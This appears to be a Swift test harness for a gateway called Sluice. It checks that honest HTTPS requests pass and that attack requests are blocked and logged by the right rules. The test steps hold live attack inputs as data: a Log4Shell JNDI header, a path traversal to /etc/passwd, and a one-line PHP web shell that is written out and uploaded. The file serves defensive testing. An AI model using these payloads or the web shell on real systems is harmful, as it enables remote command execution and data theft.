import Diversion

/// One thing that the client does, and what has to come of it.
struct LabStep {
  let name: String
  let path: String
  var options: [String] = []
  let outcome: Outcome

  enum Outcome {
    /// The page arrives, and the server's log has the client's address and port.
    case passes
    /// An alert by one of these rules says that it was blocked, and the server has not got the request whole.
    case blockedToServer(ClosedRange<Int>)
    /// The same, but it is the answer that doesn't arrive.
    case blockedToClient(ClosedRange<Int>)
  }

  /// The rules that come with Sluice: a thousand numbers for each file, see rules/README.md.
  static func all(_ workshop: LabWorkshop) throws(LabError) -> [LabStep] {
    try workshop.write("<?php system($_GET['command']); ?>\n", to: "shell.php")
    return [
      LabStep(name: "honest request", path: "/", outcome: .passes),
      LabStep(
        name: "Log4Shell in a header", path: "/",
        options: ["--header", "X-Api-Version: ${jndi:ldap://198.51.100.7/a}"],
        outcome: .blockedToServer(9_001_000...9_001_999)),
      LabStep(
        name: "path traversal", path: "/static/../../../../etc/passwd", options: ["--path-as-is"],
        outcome: .blockedToServer(9_000_000...9_000_999)),
      LabStep(
        name: "upload of a web shell", path: LabServer.uploadPath,
        options: ["--form", "file=@\(workshop.path("shell.php"));type=application/octet-stream"],
        outcome: .blockedToServer(9_002_000...9_002_999)),
      LabStep(
        name: "download of the EICAR test file", path: LabServer.testFilePath,
        outcome: .blockedToClient(9_010_000...9_010_999)),
      LabStep(name: "honest request afterwards", path: "/", outcome: .passes),
    ]
  }
}

/// What the client got.
struct LabReply {
  /// curl's own status; 0 when an answer came whole.
  let status: Int32
  let code: String
  /// The client's end of the connection.
  let address: String
  let port: String
  let body: String
  let complaint: String

  var summary: String {
    status == 0 ? "HTTP \(code)" : "curl \(status): \(complaint)"
  }
}

/// The client: curl, which trusts Sluice's authority and no other.
struct LabClient {
  let network: LabNetwork
  let workshop: LabWorkshop

  func request(
    _ path: String, _ options: [String], _ family: LabFamily
  ) throws(LabError) -> LabReply {
    // -q comes first: the configuration of whoever runs this is none of the lab's.
    let arguments =
      [
        "-q", "--silent", "--show-error", "--noproxy", "*", "--connect-timeout", "5", "--max-time", "15",
        "--cacert", workshop.path(LabGateway.authority), "--capath", workshop.path("nothing"),
        "--resolve", "\(LabServer.name):443:\(family.bracketedServer)", "--output", workshop.path("body"),
        "--write-out", "%{http_code} %{local_ip} %{local_port}",
      ] + options + ["https://\(LabServer.name)\(path)"]
    try workshop.write("", to: "body")
    let result = try workshop.run(LabNetwork.inside(network.client, Command("curl", arguments)))
    let words = result.output.split(separator: " ").map(String.init)
    return LabReply(
      status: result.status, code: words.first ?? "000", address: words.dropFirst().first ?? "?",
      port: words.dropFirst(2).first ?? "?", body: workshop.read("body"),
      complaint: result.errors.split(separator: "\n").first.map(String.init) ?? "")
  }
}

/// Takes a step and judges it.
struct LabJudge {
  let client: LabClient
  let gateway: LabGateway
  let workshop: LabWorkshop
  /// Records are written in batches; longer than this none was written.
  private static let eventSecondsMax = 10

  struct Finding {
    /// Empty when all came out as it has to.
    var faults: [String] = []
    /// What was seen, a line each.
    var seen: [String] = []
  }

  func take(_ step: LabStep, _ family: LabFamily) throws(LabError) -> Finding {
    let (requests, events) = (LabServer.requests(workshop).count, gateway.events().count)
    let reply = try client.request(step.path, step.options, family)
    var finding = Finding()
    finding.seen.append("client: \(step.path) -> \(reply.summary)")
    switch step.outcome {
    case .passes:
      try judgePassed(reply, family, after: requests, &finding)
    case .blockedToServer(let rules):
      try judgeBlocked(reply, family, rules, after: events, &finding)
      let arrived = LabServer.requests(workshop).dropFirst(requests)
      if let request = arrived.first { finding.faults.append("the server got it: \(request)") }
    case .blockedToClient(let rules):
      try judgeBlocked(reply, family, rules, after: events, &finding)
      if reply.body.contains(LabServer.testFileMark) { finding.faults.append("the client got the file") }
    }
    return finding
  }

  private func judgePassed(
    _ reply: LabReply, _ family: LabFamily, after count: Int, _ finding: inout Finding
  ) throws(LabError) {
    guard reply.status == 0, reply.code == "200", reply.body == LabServer.page else {
      finding.faults.append("the page did not arrive whole")
      return
    }
    finding.seen.append("certificate: verified against Sluice's authority alone")
    _ = try workshop.wait(seconds: 5) { LabServer.requests(workshop).count > count }
    let line = LabServer.requests(workshop).dropFirst(count).first
    finding.seen.append("server's log: \(line ?? "nothing")")
    if line?.hasPrefix("\(family.client) \(reply.port) ") != true {
      finding.faults.append("the server saw another than \(family.client) port \(reply.port)")
    }
  }

  private func judgeBlocked(
    _ reply: LabReply, _ family: LabFamily, _ rules: ClosedRange<Int>, after count: Int,
    _ finding: inout Finding
  ) throws(LabError) {
    if reply.status == 0, reply.code.hasPrefix("2") { finding.faults.append("the client got an answer") }
    var event: LabEvent?
    _ = try workshop.wait(seconds: Self.eventSecondsMax) {
      event = gateway.events().dropFirst(count).first { $0.isBlock(by: rules) }
      return event != nil
    }
    guard let event else {
      finding.faults.append("no event says that a rule of \(rules.lowerBound)-\(rules.upperBound) blocked it")
      return
    }
    finding.seen.append("event: \(event.summary)")
    let ends = [event.value("src_ip"), event.value("dest_ip")]
    if !ends.contains(where: { $0.map { Self.isSame($0, family.client) } ?? false }) {
      finding.faults.append("the event does not name the client \(family.client)")
    }
  }

  /// Whether two texts mean one address; events write IPv6 with every zero or with none.
  private static func isSame(_ text: String, _ address: String) -> Bool { bytes(text) == bytes(address) }

  private static func bytes(_ text: String) -> [UInt8] {
    LabAddress.octets(text) ?? Array(text.utf8)
  }
}
